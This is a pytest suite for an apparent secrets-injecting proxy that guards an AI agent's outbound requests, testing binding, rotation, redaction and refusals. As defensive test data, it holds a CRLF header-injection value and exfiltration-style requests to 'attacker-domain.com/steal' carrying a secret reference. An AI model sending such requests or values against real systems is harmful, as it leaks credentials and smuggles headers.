"""Credentials: the right key, in the right place, at the right host. A server that decodes what it gets as any would
(tests/peers/decode.py) says what arrived; the keeper counts what was read."""

import base64
import json
import subprocess
from types import SimpleNamespace

import pytest

from helpers import audit, refused
from lab import HOSTS, PEERS, wait_for

HOST, OTHER = "files.lab-host.com", "a.wild-host.com"
PORT = 8443
AT = f"https://{HOST}:{PORT}"
W = "slots"
# What keys can hold that something on the way may take for its own.
HOSTILE = {"AMP": "a&b=c&&d", "QUOTE": "x\"y'z\\\"", "PERCENT": "100%25%zz%", "PLUS": "a+b c+%20", "UNICODE": "schl\u00fcssel-\U0001f511-\u20ac",
           "SLASH": "../..//a?b#c;d", "BRACES": "{\"k\":[1]}\t~", "COLON": "user:pass:word", "DOTS": "...."}
REF = "agentsecrets://"


@pytest.fixture(scope="module")
def slots(world):
    log = world.private / "decoded"
    log.touch()
    server = world.spawn("net", ["/usr/bin/python3", str(PEERS / "decode.py"), str(world.private / "good.pem"),
                                 str(world.private / "good.key"), str(log), HOSTS[HOST][0], str(PORT)], stdout=subprocess.PIPE)
    assert server.stdout.readline() == b"ready\n"
    world.must("workspace", "create", W)
    world.must("workspace", "allowlist", "add", "-w", W, f"{HOST}:{PORT}", f"{OTHER}:443", "api.stripe.com")

    def secret(name, value, *args, op="set", host=HOST):
        return world.must("secrets", op, "-w", W, name, *(("--host", host) if op == "set" else ()), *args, input=value)

    def seen():
        return [json.loads(line) for line in log.read_text().splitlines()]

    agent = world.agent_start("/usr/bin/python3", str(PEERS / "asks.py"), workspace=W, stdin=subprocess.PIPE)

    def asks(*list_):
        """Statuses and bodies; the agent is one Python program under `run`, from the first test to the last."""
        agent.stdin.write(json.dumps(list_).encode() + b"\n")
        agent.stdin.flush()
        return json.loads(agent.stdout.readline() or agent.stderr.read())

    def one(**ask):
        """What the server decoded of one request that is allowed."""
        before = len(seen())
        ask.setdefault("url", f"{AT}/")
        answer = asks(ask)
        assert answer == [[200, "ok\n"]], answer
        assert len(seen()) == before + 1
        return seen()[-1]

    def never(why, **ask):
        """Refused for this reason, without a read of the vault, and nothing arrives."""
        before, reads = len(seen()), world.daemons[0].reads()
        ask.setdefault("url", f"{AT}/")
        [[status, body]] = asks(ask)
        assert (status, json.loads(body)["error"]) == (403, why), body
        assert (len(seen()), world.daemons[0].reads()) == (before, reads)

    yield SimpleNamespace(world=world, secret=secret, seen=seen, asks=asks, one=one, never=never, daemon=world.daemons[0])
    agent.stdin.close()
    agent.wait(20)
    wait_for("the guard's end", lambda: world.cli("workspace", "delete", W).returncode == 0)
    server.kill()


def header(said, name):
    return [v.encode("latin-1").decode("utf-8") for k, v in said["headers"] if k.lower() == name.lower()]


def latin(value):
    return value.encode().decode("latin-1")


def test_every_slot_with_hostile_values_arrives_byte_exact(slots):
    for name, value in HOSTILE.items():
        slots.secret(name, value, *(a for s in ("header", "basic", "query", "path", "body") for a in ("--slot", s)))
    asks, wants = [], []
    for name, value in HOSTILE.items():
        ref, enc = REF + name, f"agentsecrets%3A%2F%2F{name}"
        path = name != "DOTS"  # nothing but dots is no path segment
        asks.append({"method": "POST", "url": f"{AT}/a/{enc if path else 'x'}/z?k={enc}&plain=%2B&again=x{ref}y",
                     "headers": [["X-Key", f"<{ref}>"], ["Content-Type", "application/json; charset=utf-8"],
                                 ["Authorization", "Basic " + base64.b64encode(f"u:{ref}".encode()).decode()]],
                     "body": json.dumps({"big": 9007199254740993, "k": ref, "z": {"deep": [1.0, f"a{ref}b"]}, "a": "\u00e4"})})
        asks.append({"method": "POST", "url": f"{AT}/form", "headers": [["Content-Type", "application/x-www-form-urlencoded"]],
                     "body": f"b=2&k={enc}&a=%zz&k={ref}&empty=", "chunked": True})
        wants.append((name, value))
    before = len(slots.seen())
    assert slots.asks(*asks) == [[200, "ok\n"]] * len(asks)
    said = slots.seen()[before:]
    for i, (name, value) in enumerate(wants):
        whole, form = said[2 * i], said[2 * i + 1]
        assert header(whole, "X-Key") == [f"<{value}>"], name
        assert whole["basic"] == latin(f"u:{value}")
        assert whole["path"] == ["", "a", latin(value) if name != "DOTS" else "x", "z"]
        assert whole["query"] == [["k", latin(value)], ["plain", "+"], ["again", latin(f"x{value}y")]]
        assert whole["json"] == {"big": 9007199254740993, "k": value, "z": {"deep": [1.0, f"a{value}b"]}, "a": "\u00e4"}
        assert '{"big": 9007199254740993, "k": "' in whole["body"] and '"z": {"deep": [1.0, "' in whole["body"]
        assert header(whole, "Content-Length") == [str(len(whole["body"]))]
        assert [f for f in form["form"] if f[0] == "k"] == [["k", latin(value)], ["k", latin(value)]]
        assert form["body"].startswith("b=2&k=") and "&a=%zz&" in form["body"] and form["body"].endswith("&empty=")


@pytest.mark.parametrize("value", ["a\r\nX-Evil: 1", "a\nb", "a\rb", "a\0b", ""])
def test_values_that_no_header_can_carry_are_refused_when_they_are_set(slots, value):
    assert "nothing was stored" in refused(slots.world.cli("secrets", "set", "-w", W, "BAD", "--host", HOST, input=value))
    assert "BAD" not in slots.world.must("secrets", "list", "-w", W, "--json").stdout


def test_a_quoted_reference_in_a_body_passes_as_text(slots):
    slots.secret("HEADER_ONLY", "value-of-header-only")
    text = json.dumps({"content": f"write {REF}HEADER_ONLY or {REF}NO_SUCH_SECRET"})
    kinds = [[["Content-Type", "application/json"]], [["Content-Type", "text/plain"]], []]
    for headers in kinds:
        said = slots.one(method="POST", headers=headers, body=text)
        assert said["body"] == text
    # with the body slot, but in a body whose kind we do not edit, or that is coded
    slots.secret("BODY_KEY", "value-of-body-key", "--slot", "body")
    for headers in ([["Content-Type", "text/plain"]], [["Content-Type", "application/json"], ["Content-Encoding", "gzip"]]):
        said = slots.one(method="POST", headers=headers, body=f'"{REF}BODY_KEY"')
        assert said["body"] == f'"{REF}BODY_KEY"'
    said = slots.one(method="POST", body=f'{{"k":"{REF}BODY_KEY","t":"{REF}HEADER_ONLY"}}',
                     headers=[["Content-Type", "application/json"], ["Content-MD5", "x"], ["Digest", "y"]])
    assert said["body"] == f'{{"k":"value-of-body-key","t":"{REF}HEADER_ONLY"}}'
    assert header(said, "Content-MD5") == header(said, "Digest") == []


def test_port_method_and_path_bind_a_secret(slots):
    slots.secret("NARROW", "value-of-narrow", "--slot", "header,body", "--port", str(PORT), "--method", "POST", "--path", "/v1/**")
    h = [["X-Key", f"{REF}NARROW"], ["Content-Type", "application/json"]]
    body = f'["{REF}NARROW"]'
    said = slots.one(method="POST", url=f"{AT}/v1/x", headers=h, body=body)
    assert header(said, "X-Key") == ["value-of-narrow"] and said["json"] == ["value-of-narrow"]
    slots.never("secret_not_for_path", method="GET", url=f"{AT}/v1/x", headers=h[:1])
    slots.never("secret_not_for_path", method="POST", url=f"{AT}/v2/x", headers=h[:1], body="")
    slots.never("secret_not_for_path", method="POST", url=f"{AT}/v1/../v2/x", headers=h[:1], body="")
    slots.never("secret_slot_not_allowed", method="POST", url=f"{AT}/v1/x?k={REF}NARROW", body="")
    slots.never("secret_not_for_host", url=f"https://{OTHER}/", headers=h[:1])
    said = slots.one(method="POST", url=f"{AT}/v2/x", headers=h[1:], body=body)
    assert said["body"] == body  # not for this path: text
    slots.world.must("secrets", "bind", "-w", W, "NARROW", "--port", "1")
    slots.never("secret_not_for_host", method="POST", url=f"{AT}/v1/x", headers=h[:1], body="")


def test_a_placeholder_is_as_good_as_a_reference_and_no_better(slots):
    made = slots.secret("SHAPED", "value&of shaped", "--slot", "header,basic,query,path,body", "--placeholder", "auto:sk-").stdout
    holder = made.split("placeholder: ")[1].strip()
    assert holder.startswith("sk-") and len(holder) == 39
    p = slots.world.agent("sh", "-c", "echo $SHAPED $HEADER_ONLY", workspace=W)
    assert p.stdout.split()[0] == holder
    said = slots.one(method="POST", url=f"{AT}/p/{holder}?k={holder}", body=f'{{"k":"{holder}"}}', headers=[
        ["X-Key", holder], ["Content-Type", "application/json"],
        ["Authorization", "Basic " + base64.b64encode(f"{holder}:".encode()).decode()]])
    value = "value&of shaped"
    assert header(said, "X-Key") == [value] and said["basic"] == f"{value}:" and said["json"] == {"k": value}
    assert said["path"][2] == value and said["query"] == [["k", value]]
    slots.never("secret_not_for_host", url=f"https://{OTHER}/", headers=[["X-Key", holder]])
    slots.world.must("secrets", "bind", "-w", W, "SHAPED", "--slot", "basic")
    slots.never("secret_slot_not_allowed", headers=[["X-Key", holder]])
    assert "same, or part" in refused(slots.world.cli("secrets", "bind", "-w", W, "HEADER_ONLY", "--placeholder", holder[:30]))
    slots.world.must("secrets", "bind", "-w", W, "SHAPED", "--placeholder", "none")
    assert header(slots.one(headers=[["X-Key", holder]]), "X-Key") == [holder]
    jwt = slots.secret("JWT", "real-token-value", "--placeholder", "auto:jwt").stdout.split("placeholder: ")[1].strip()
    assert len(jwt.split(".")) == 3
    assert header(slots.one(headers=[["Authorization", f"Bearer {jwt}"]]), "Authorization") == ["Bearer real-token-value"]


def test_a_rule_puts_in_what_the_client_does_not_send(slots):
    slots.secret("ATTACHED", "attached-value", "--slot", "header,query,basic")
    slots.world.must("workspace", "allowlist", "add", "-w", W, f"{HOST}:{PORT}", "--path", "/auto/**", "--method", "GET",
                     "--inject", "header:Authorization: Bearer {ATTACHED}", "--inject", "query:api_key={ATTACHED}")
    said = slots.one(url=f"{AT}/auto/x?b=1&api_key=mine&a=2", headers=[["authorization", "mine"], ["X-A", "1"]])
    assert header(said, "Authorization") == ["Bearer attached-value"]
    assert said["target"] == "/auto/x?b=1&a=2&api_key=attached-value"
    assert header(slots.one(url=f"{AT}/other"), "Authorization") == []
    # two credentials for one place are not one silently lost
    slots.world.must("workspace", "allowlist", "add", "-w", W, f"{HOST}:{PORT}", "--path", "/auto/x", "--inject", "basic:{ATTACHED}:")
    slots.never("injection_conflict", url=f"{AT}/auto/x")
    # bound like all the others
    slots.world.must("secrets", "bind", "-w", W, "ATTACHED", "--host", OTHER)
    slots.never("secret_not_for_host", url=f"{AT}/auto/y")
    slots.world.must("secrets", "delete", "-w", W, "ATTACHED")
    slots.never("secret_unknown", url=f"{AT}/auto/y")


def test_rotation_is_in_the_next_request(slots):
    slots.secret("TURN", "first-value")
    agent = slots.world.agent_start("/usr/bin/python3", "-u", "-c", f"""
import http.client, ssl, sys
c = http.client.HTTPSConnection({HOST!r}, {PORT}, context=ssl.create_default_context())
for line in sys.stdin:
    c.request("GET", "/turn", headers={{"X-Key": "{REF}TURN"}})
    r = c.getresponse(); r.read(); print(r.status)
""", workspace=W, stdin=subprocess.PIPE)
    try:
        for value in ("first-value", "second-value", "third-value"):
            if value != "first-value":
                slots.secret("TURN", value, op="rotate")
            agent.stdin.write(b"go\n")
            agent.stdin.flush()
            assert agent.stdout.readline() == b"200\n"
            assert header(slots.seen()[-1], "X-Key") == [value]
    finally:
        agent.stdin.close()
        agent.wait(10)
    assert "there is no secret" in refused(slots.world.cli("secrets", "rotate", "-w", W, "NO_SUCH", input="x"))


def test_no_redirect_is_followed_and_no_key_goes_along(slots):
    slots.secret("REDIRECTED", "redirected-value", "--slot", "query,header")
    [[status, _]] = slots.asks({"url": f"{AT}/elsewhere?k={REF}REDIRECTED", "headers": [["X-Key", f"{REF}REDIRECTED"]]})
    assert status == 302
    slots.never("domain_not_in_allowlist", url=f"https://attacker-domain.com/steal?k={REF}REDIRECTED")


def test_a_secret_is_in_no_log_and_no_error(slots):
    """The value in the query of a request whose upstream cannot be reached (502), or is refused."""
    slots.secret("QUIET", "quiet-value-1234567", "--slot", "query,path,header", host="api.stripe.com")
    slots.world.must("workspace", "allowlist", "add", "-w", W, "api.stripe.com:444")
    [[status, body]] = slots.asks({"url": f"https://api.stripe.com:444/{REF}QUIET?k={REF}QUIET", "headers": [["X", f"{REF}QUIET"]]})
    assert status == 502 and "quiet" not in body and "QUIET" not in body
    lines = audit(slots.daemon, host="api.stripe.com", port=444) or audit(slots.daemon, host="api.stripe.com")
    assert "quiet-value" not in json.dumps(lines) and "quiet-value" not in slots.daemon.messages()


def test_secrets_test_says_the_verdict_without_a_read(slots):
    slots.secret("TESTED", "tested-value", "--slot", "header", "--method", "POST")
    reads = slots.daemon.reads()

    def verdicts(*args):
        p = slots.world.cli("secrets", "test", "-w", W, "TESTED", *args, "--json")
        return p.returncode, {s["slot"]: s["reason"] for s in json.loads(p.stdout)["slots"]}

    assert verdicts("--host", f"{HOST}:{PORT}", "--method", "POST", "--slot", "header") == (0, {"header": ""})
    assert verdicts("--host", f"{HOST}:{PORT}", "--slot", "header") == (1, {"header": "secret_not_for_path"})
    assert verdicts("--host", f"{HOST}:{PORT}", "--method", "POST")[1]["query"] == "secret_slot_not_allowed"
    assert verdicts("--host", OTHER, "--slot", "header") == (1, {"header": "secret_not_for_host"})
    assert verdicts("--host", "attacker-domain.com", "--slot", "header") == (1, {"header": "domain_not_in_allowlist"})
    assert verdicts("--host", HOST, "--slot", "header") == (1, {"header": "policy_denied"})
    assert slots.daemon.reads() == reads


def test_import(slots):
    text = f"# from the old days\nexport IMPORTED_A='quo\"ted # value'\nimported-b=plain+value # c\nIMPORTED_C=\"tab\\tinside\"\n"
    p = slots.world.must("secrets", "import", "-w", W, "--host", HOST, input=text)
    assert p.stdout == "Stored 3 secrets.\n" and "quo" not in p.stderr
    names = ("IMPORTED_A", "IMPORTED_B", "IMPORTED_C")
    said = slots.one(headers=[[f"X-{n}", REF + n] for n in names])
    assert [header(said, f"X-{n}")[0] for n in names] == ['quo"ted # value', "plain+value", "tab\tinside"]
    slots.world.must("secrets", "import", "-w", W, "--host", HOST, input=json.dumps({"IMPORTED_A": "from json \u20ac"}))
    assert header(slots.one(headers=[["X-A", REF + "IMPORTED_A"]]), "X-A") == ["from json \u20ac"]
    for bad, says in (("X1=a\nX2=b\nX1=c\n", "line 3"), ("X1=a\nnonsense\n", "line 2"), ("X1=\"a\nb\"\n", "line 1"), ("X1=a\n\u00e4=b\n", "line 2"),
                      ('{"X1":"a","X1":"b"}', "twice"), ('{"X1":1}', "no string"), ("# nothing\n", "no NAME=VALUE"), ("x-1=a\nX_1=b\n", "line 2")):
        assert says in refused(slots.world.cli("secrets", "import", "-w", W, "--host", HOST, input=bad)), bad
    assert '"X1"' not in slots.world.must("secrets", "list", "-w", W, "--json").stdout


def test_a_value_written_out_is_refused_wherever_it_stands(slots):
    value = "literal v&lue+9f2c77"
    slots.secret("LITERAL", value, "--slot", "body")
    quoted = "literal%20v%26lue%2B9f2c77"
    slots.never("secret_value_in_request", headers=[["X-Key", f"x{value}"]])
    slots.never("secret_value_in_request", headers=[["Cookie", f"a={value}"]])
    slots.never("secret_value_in_request", headers=[["Authorization", "Basic " + base64.b64encode(f"u:{value}".encode()).decode()]])
    slots.never("secret_value_in_request", url=f"{AT}/a/{quoted}/b")
    slots.never("secret_value_in_request", url=f"{AT}/?k=literal+v%26lue%2b9f2c77")
    slots.never("secret_value_in_request", url=f"https://{OTHER}/", headers=[["X-Key", value]])  # bound there or not
    slots.never("domain_not_in_allowlist", url=f"https://attacker-domain.com/{quoted}")
    slots.never("secret_value_in_request", method="POST", body=json.dumps({"a": value}), headers=[["Content-Type", "application/json"]])
    # a body that goes by as it comes: cut where it is seen, the last of the value never arrives
    for ask in ({"headers": [["Content-Type", "text/plain"]]}, {"chunked": True}):
        [[status, body]] = slots.asks({"method": "POST", "url": f"{AT}/", "body": "x" * 100000 + value + "y" * 1000, **ask})
        assert (status, json.loads(body)["error"]) == (403, "secret_value_in_request")
    assert not any("9f2c77" in json.dumps(s) for s in slots.seen())
    # and it stands in no line of the log, though it stood in paths
    lines = audit(slots.daemon, workspace=W, reason="secret_value_in_request")
    log = slots.daemon.audit.read_text()
    assert len(lines) >= 8 and "9f2c77" not in log
    # a new value is known as soon as it is set, and the old one is no longer one
    slots.secret("LITERAL", "another-value-7c1", op="rotate")
    slots.never("secret_value_in_request", headers=[["X-Key", "another-value-7c1"]])
    slots.one(headers=[["X-Key", value]])
    slots.world.must("secrets", "delete", "-w", W, "LITERAL")
    slots.one(headers=[["X-Key", "another-value-7c1"]])


def test_foreign_credentials_are_marked_or_refused(slots):
    slots.secret("OURS", "value-of-ours")
    token = "ghp_" + "a1B2" * 9
    own = [["Authorization", f"Bearer {REF}OURS"]]
    cases = [([["Authorization", "Bearer other"]], "authorization"), ([["X-Api-Key", "k"]], "header field for keys"),
             ([["X-Any", token]], "token in a header field"), (own + [["X-Any", token]], "token in a header field")]
    for i, (headers, where) in enumerate(cases):
        slots.one(url=f"{AT}/foreign/{i}", headers=headers)
        assert audit(slots.daemon, workspace=W, path=f"/foreign/{i}")[0]["foreign_credential"] == where
    for i, headers in enumerate((own, [["Cookie", f"s={token}"]], [["User-Agent", "sk-1 risk-free"]])):
        slots.one(url=f"{AT}/ours/{i}", headers=headers)
        assert "foreign_credential" not in audit(slots.daemon, workspace=W, path=f"/ours/{i}")[0]
    assert slots.world.must("workspace", "foreign-credentials", "-w", W, "refuse").stdout == "Foreign credentials: refuse\n"
    for headers, _ in cases:
        slots.never("foreign_credential_blocked", headers=headers)
    slots.never("foreign_credential_blocked", url=f"{AT}/?access_token=x")
    slots.one(url=f"{AT}/ours/own", headers=own)
    slots.world.must("workspace", "foreign-credentials", "-w", W, "off")
    slots.one(url=f"{AT}/off", headers=cases[0][0])
    assert "foreign_credential" not in audit(slots.daemon, workspace=W, path="/off")[0]
    slots.world.must("workspace", "foreign-credentials", "-w", W, "warn")
